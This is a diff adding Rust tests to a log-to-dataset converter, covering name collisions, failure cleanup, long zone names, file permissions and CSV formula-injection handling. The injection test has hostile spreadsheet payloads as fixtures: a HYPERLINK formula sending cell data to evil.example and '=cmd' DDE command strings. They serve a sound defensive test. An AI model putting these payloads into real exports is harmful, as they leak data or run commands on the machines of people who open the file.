@@ -306,9 +306,9 @@ fn records_spread_over_many_hours_go_to_their_partitions_and_none_is_lost() {
             "{names:?}"
         );
     }
-    // Files were closed and reopened: the later ones are numbered.
+    // Files were closed and reopened: the later ones are numbered (`~`: no stem has it).
     assert!(
-        names.iter().any(|n| n.ends_with("l4-packet-1.parquet")),
+        names.iter().any(|n| n.ends_with("l4-packet~1.parquet")),
         "{names:?}"
     );
     assert!(names
@@ -365,5 +365,286 @@ fn a_packet_of_neither_kind_is_named_in_the_error() {
     let error = dataset.convert_file(&input, None, None).unwrap_err();
     assert!(matches!(error, ConvertError::UnknownKind { .. }));
     assert!(error.to_string().contains("odd.log"), "{error}");
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+/// One L7 record of `hour` whose `RequestID` says where it came from.
+fn record(id: &str, hour: u32) -> String {
+    format!(
+        r#"{{"RequestID":"{id}","RequestTime":"2024-05-01T{hour:02}:00:00Z","RequestHost":"h","EdgeResponseStatusCode":200}}"#
+    )
+}
+
+/// Visible (not hidden) files under `dir`, relative.
+fn visible_files(dir: &Path) -> Vec<PathBuf> {
+    if !dir.exists() {
+        return Vec::new();
+    }
+    files_under(dir)
+        .into_iter()
+        .filter(|f| {
+            !f.components()
+                .any(|c| c.as_os_str().to_string_lossy().starts_with('.'))
+        })
+        .collect()
+}
+
+/// Every NDJSON line under `dir/kind=l7`, as (file, RequestID).
+fn ndjson_ids(dir: &Path) -> Vec<String> {
+    let mut ids = Vec::new();
+    for file in visible_files(dir) {
+        if file.starts_with("kind=l7") && file.extension().is_some_and(|e| e == "ndjson") {
+            for line in fs::read_to_string(dir.join(&file)).unwrap().lines() {
+                let value: serde_json::Value = serde_json::from_str(line).unwrap();
+                ids.push(value["RequestID"].as_str().unwrap().to_owned());
+            }
+        }
+    }
+    ids.sort();
+    ids
+}
+
+#[test]
+fn packets_whose_names_read_the_same_each_keep_their_records() {
+    // Issue: `a/pkt one.log.gz`, `b/pkt_one.log.gz`, `b/pkt_one.log` were reported as
+    // "converted 2, skipped 1, records 2" while the dataset held one record.
+    let dir = temp_dir("collide");
+    fs::create_dir_all(dir.join("a")).unwrap();
+    fs::create_dir_all(dir.join("b")).unwrap();
+    let inputs = vec![
+        dir.join("a/pkt one.log.gz"),
+        dir.join("b/pkt_one.log.gz"),
+        dir.join("b/pkt_one.log"),
+    ];
+    gzip_lines(&inputs[0], &[record("from-a-space", 10)]);
+    gzip_lines(&inputs[1], &[record("from-b-gz", 10)]);
+    fs::write(&inputs[2], record("from-b-log", 10)).unwrap();
+    let out = dir.join("out");
+    let dataset = Dataset::local(&out, Format::Ndjson).unwrap();
+    let results = dataset.convert_files(&inputs, None, Some("z"), 0);
+    let reports: Vec<_> = results.into_iter().map(|r| r.unwrap()).collect();
+    assert!(reports.iter().all(|r| !r.skipped), "{reports:?}");
+    assert_eq!(reports.iter().map(|r| r.records).sum::<u64>(), 3);
+    assert_eq!(
+        ndjson_ids(&out),
+        ["from-a-space", "from-b-gz", "from-b-log"]
+    );
+    // Three names, the first plain, the others with a hash of their content; three markers
+    // that say which packet each is.
+    let mut names: Vec<String> = reports
+        .iter()
+        .flat_map(|r| &r.files)
+        .map(|f| f.file_name().unwrap().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    assert_eq!(names[0], "pkt_one.ndjson", "{names:?}");
+    assert!(
+        names[1..].iter().all(
+            |n| n.starts_with("pkt_one~") && n.len() == "pkt_one~".len() + 12 + ".ndjson".len()
+        ),
+        "{names:?}"
+    );
+    let markers = visible_files(&out.join("_teo_converted"));
+    assert_eq!(markers.len(), 3, "{markers:?}");
+    for marker in &markers {
+        let text = fs::read_to_string(out.join("_teo_converted").join(marker)).unwrap();
+        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
+        assert_eq!(
+            value["input"]["sha256"].as_str().unwrap().len(),
+            64,
+            "{text}"
+        );
+    }
+
+    // A rerun, in another order, skips all three; a copy of one elsewhere is the same packet.
+    fs::create_dir_all(dir.join("c")).unwrap();
+    fs::copy(&inputs[1], dir.join("c/pkt_one.log.gz")).unwrap();
+    let again: Vec<PathBuf> = inputs
+        .iter()
+        .rev()
+        .cloned()
+        .chain([dir.join("c/pkt_one.log.gz")])
+        .collect();
+    for result in dataset.convert_files(&again, None, Some("z"), 0) {
+        assert!(result.unwrap().skipped);
+    }
+    assert_eq!(ndjson_ids(&out).len(), 3);
+
+    // Another packet with that name, converted later on its own, is converted too.
+    let later = dir.join("d/pkt-one.log");
+    fs::create_dir_all(dir.join("d")).unwrap();
+    fs::write(&later, record("later", 10)).unwrap();
+    fs::rename(&later, dir.join("d/pkt_one.log")).unwrap();
+    let report = dataset
+        .convert_file(dir.join("d/pkt_one.log"), None, Some("z"))
+        .unwrap();
+    assert!(!report.skipped && report.records == 1);
+    assert_eq!(ndjson_ids(&out).len(), 4);
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn a_packet_that_fails_late_leaves_none_of_its_files_visible() {
+    // Issue: a packet over several hours that failed on a late bad line (--strict) left its
+    // first hours' files under their final names, without a marker.
+    let dir = temp_dir("late-failure");
+    let input = dir.join("spread.log");
+    let mut lines: Vec<String> = (0..40).map(|i| record(&format!("r{i}"), i % 6)).collect();
+    lines.push("{not json".to_owned());
+    fs::write(&input, lines.join("\n")).unwrap();
+    let out = dir.join("out");
+    for format in [Format::Parquet, Format::Ndjson, Format::Csv] {
+        let dataset = Dataset::local(&out, format)
+            .unwrap()
+            .bad_lines(teo_client::logs::records::BadLines::Fail);
+        let error = dataset.convert_file(&input, None, Some("z")).unwrap_err();
+        assert!(error.to_string().contains("spread.log"), "{error}");
+        assert_eq!(visible_files(&out), Vec::<PathBuf>::new(), "{format:?}");
+        // Nor anything hidden left behind.
+        assert_eq!(files_under(&out), Vec::<PathBuf>::new(), "{format:?}");
+    }
+    // Converted whole, every file appears, with its marker.
+    let dataset = Dataset::local(&out, Format::Ndjson).unwrap();
+    let report = dataset.convert_file(&input, None, Some("z")).unwrap();
+    assert_eq!(report.records, 40);
+    // Six hours in turn, four files open at a time: files are closed and reopened.
+    assert!(report.files.len() > 6, "{:?}", report.files);
+    assert_eq!(visible_files(&out).len(), report.files.len() + 1);
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_neutralized_unless_raw() {
+    let dir = temp_dir("csv-injection");
+    let input = dir.join("visitors.log");
+    let hostile = [
+        (
+            "RequestUA",
+            r#"=HYPERLINK("https://evil.example/?x="&B2,"details")"#,
+        ),
+        ("RequestUrl", "=cmd|' /C calc'!A0"),
+        ("RequestReferer", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("ClientISP", "+1+1"),
+        ("ClientRegion", "-2+3"),
+        ("ClientState", "\tx"),
+        ("RequestRange", "\rx"),
+    ];
+    let mut member = serde_json::Map::new();
+    member.insert("RequestTime".into(), json!("2024-05-01T10:00:00Z"));
+    member.insert("EdgeResponseStatusCode".into(), json!(200));
+    member.insert("EdgeResponseBytes".into(), json!(-5));
+    for (name, value) in hostile {
+        member.insert(name.into(), json!(value));
+    }
+    member.insert("RequestHost".into(), json!("www.example.com"));
+    fs::write(&input, serde_json::Value::Object(member).to_string()).unwrap();
+
+    let read_csv = |out: &Path| -> Vec<(String, String)> {
+        let file = visible_files(out)
+            .into_iter()
+            .find(|f| f.extension().is_some_and(|e| e == "csv"))
+            .unwrap();
+        let mut reader = csv::Reader::from_path(out.join(file)).unwrap();
+        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+        let row = reader.records().next().unwrap().unwrap();
+        header
+            .into_iter()
+            .zip(row.iter().map(String::from))
+            .collect()
+    };
+    let cell = |row: &[(String, String)], name: &str| {
+        row.iter().find(|(n, _)| n == name).unwrap().1.clone()
+    };
+
+    let safe = dir.join("safe");
+    Dataset::local(&safe, Format::Csv)
+        .unwrap()
+        .convert_file(&input, None, Some("z"))
+        .unwrap();
+    let row = read_csv(&safe);
+    for (name, value) in hostile {
+        assert_eq!(cell(&row, name), format!("'{value}"), "{name}");
+    }
+    // Numbers and ordinary text are written as they are.
+    assert_eq!(cell(&row, "RequestHost"), "www.example.com");
+    assert_eq!(cell(&row, "EdgeResponseStatusCode"), "200");
+
+    let raw = dir.join("raw");
+    Dataset::local(&raw, Format::Csv)
+        .unwrap()
+        .csv_cells(teo_logs::encode::CsvCells::Raw)
+        .convert_file(&input, None, Some("z"))
+        .unwrap();
+    let row = read_csv(&raw);
+    for (name, value) in hostile {
+        assert_eq!(cell(&row, name), value, "{name}");
+    }
+    // NDJSON keeps every value exact.
+    let ndjson = dir.join("ndjson");
+    Dataset::local(&ndjson, Format::Ndjson)
+        .unwrap()
+        .convert_file(&input, None, Some("z"))
+        .unwrap();
+    let file = visible_files(&ndjson)
+        .into_iter()
+        .find(|f| f.extension().is_some_and(|e| e == "ndjson"))
+        .unwrap();
+    let line: serde_json::Value =
+        serde_json::from_str(fs::read_to_string(ndjson.join(file)).unwrap().trim()).unwrap();
+    for (name, value) in hostile {
+        assert_eq!(line[name], value, "{name}");
+    }
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn a_long_zone_is_cut_to_a_usable_path_segment_and_kept_apart() {
+    // Issue: a long non-ASCII --zone failed with "File name too long".
+    let dir = temp_dir("long-zone");
+    let input = dir.join("p.log");
+    fs::write(&input, record("r", 10)).unwrap();
+    let dataset = Dataset::local(dir.join("out"), Format::Parquet).unwrap();
+    let long_a = "区".repeat(100);
+    let long_b = format!("{}x", "区".repeat(99));
+    let a = dataset.convert_file(&input, None, Some(&long_a)).unwrap();
+    let b = dataset.convert_file(&input, None, Some(&long_b)).unwrap();
+    let zone_of = |report: &teo_logs::ConvertReport| {
+        report.files[0]
+            .components()
+            .nth(1)
+            .unwrap()
+            .as_os_str()
+            .to_string_lossy()
+            .into_owned()
+    };
+    let (zone_a, zone_b) = (zone_of(&a), zone_of(&b));
+    assert!(zone_a.len() <= "zone=".len() + 200, "{zone_a}");
+    assert!(zone_a.starts_with("zone=%E5%8C%BA"), "{zone_a}");
+    assert!(zone_a.contains('~'), "{zone_a}");
+    assert_ne!(zone_a, zone_b);
+    // A short zone is escaped, not cut.
+    assert_eq!(teo_logs::dataset::hive_value(Some("区")), "%E5%8C%BA");
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn what_a_dataset_holds_is_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = temp_dir("private");
+    let input = dir.join("p.log");
+    fs::write(&input, record("r", 10)).unwrap();
+    let out = dir.join("out");
+    let report = Dataset::local(&out, Format::Parquet)
+        .unwrap()
+        .convert_file(&input, None, Some("z"))
+        .unwrap();
+    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&out), 0o700);
+    let file = out.join(&report.files[0]);
+    assert_eq!(mode(&file), 0o600);
+    for dir in file.ancestors().skip(1).take(4) {
+        assert_eq!(mode(dir), 0o700, "{}", dir.display());
+    }
     fs::remove_dir_all(&dir).unwrap();
 }
